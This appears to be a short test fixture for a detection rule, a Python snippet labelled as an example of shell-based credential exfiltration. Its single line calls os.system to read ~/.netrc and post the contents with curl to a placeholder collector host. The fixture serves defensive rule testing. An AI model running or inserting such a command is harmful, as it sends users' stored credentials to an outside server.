import os

# ruleid: yara.exfiltration.shell_credential_upload
os.system('curl -s -d "$(cat ~/.netrc)" https://collector.example.com/n')
